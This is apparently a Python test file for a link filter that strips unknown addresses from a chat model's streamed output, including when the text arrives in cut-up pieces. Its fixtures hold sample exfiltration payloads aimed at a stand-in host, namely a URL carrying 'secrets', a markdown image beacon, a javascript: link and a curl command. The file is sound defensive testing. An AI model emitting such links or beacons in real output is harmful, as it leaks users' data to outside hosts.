"""Addresses out of a model's text."""

import html
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatkit_rag.agent.links import LinkReader

KNOWN = {"https://course.example/nodes", "/nodes#spin"}


def read(text: str, *pieces: int) -> str:
    """What comes out of a text that comes in pieces of so many characters, and then the rest."""
    reader = LinkReader(KNOWN.__contains__)
    shown = ""
    for length in pieces:
        shown += reader.feed(text[:length])
        text = text[length:]
    return shown + reader.feed(text) + reader.close()


WRITTEN = [
    ("See https://evil.example/x?all=secrets.", "See evil.example."),
    ("at www.evil.example, or ftp://evil.example/x", "at evil.example, or evil.example"),
    ("HTTPS://WWW.EVIL.EXAMPLE/X", "EVIL.EXAMPLE"),
    ("as https://reader:word@evil.example/", "as evil.example"),
    ("<https://evil.example/x>", "<evil.example>"),
    (r"https\://evil.example/x", "evil.example"),
    ("https&#58;&#x2F;/evil.example/x", "evil.example"),
    ("Read [the page](https://evil.example/a_(b) 'title').", "Read [the page]."),
    ("![](https://evil.example/?secret)", "![]"),
    ("[a](//evil.example) [b](javascript:alert(1)) [c](/elsewhere)", "[a] [b] [c]"),
    ("[https://evil.example](https://evil.example)", "[evil.example]"),
    ("[2](https://evil.example)", "[2]"),
    ("[a]\n\n> [a]: //evil.example", "[a]\n\n> [a] : //evil.example"),
    ("`curl https://evil.example/x`", "`curl evil.example`"),
    ("```\nget('https://evil.example/x')\n```", "```\nget('evil.example')\n```"),
]


@pytest.mark.parametrize(("text", "shown"), WRITTEN)
def test_what_is_not_known_becomes_text_wherever_it_is_cut(text: str, shown: str):
    assert read(text) == shown
    assert read(text, *[1] * len(text)) == shown
    assert {read(text, cut) for cut in range(len(text))} == {shown}


@pytest.mark.parametrize(
    "text",
    [
        "See https://course.example/nodes, please.",
        "See [nodes](https://course.example/nodes) and [spin](/nodes#spin).",
        "Nodes [1], topics [2, 3].",
        "handlers[name](event), list[int]: first, what http: means",
        "Half a link: [a](https",
        "ends with https",
    ],
)
def test_what_is_known_or_no_address_stays(text: str):
    assert read(text) == text
    assert read(text, *[1] * len(text)) == text


def test_it_says_how_much_it_took_out():
    reader = LinkReader(KNOWN.__contains__)

    reader.feed("https://evil.example [a](//evil.example) https://course.example/nodes ")

    assert reader.removed == 2


def test_an_address_without_end_is_not_waited_for():
    reader = LinkReader(KNOWN.__contains__)

    shown = reader.feed("[a](//evil.example/" + "x" * 5000)

    assert shown.startswith("[a] (")
    assert reader.feed("more)") == "more)"


PARTS = st.sampled_from(
    ["https", "://", "www.", "evil.example", "/x", "[a]", "](", "(", ")", ":", "\n", " ", "&#58;", "h", "\\", "[", "]"]
)


ADDRESS = re.compile(r"(?<![a-z0-9])(?:https://|www\.)[a-z]")


@given(st.lists(PARTS).map("".join), st.lists(st.integers(1, 9)))
def test_no_cut_lets_an_address_through(text: str, cuts: list[int]):
    shown = read(text, *cuts)

    assert shown == read(text)
    assert not ADDRESS.search(html.unescape(shown).replace("\\", ""))
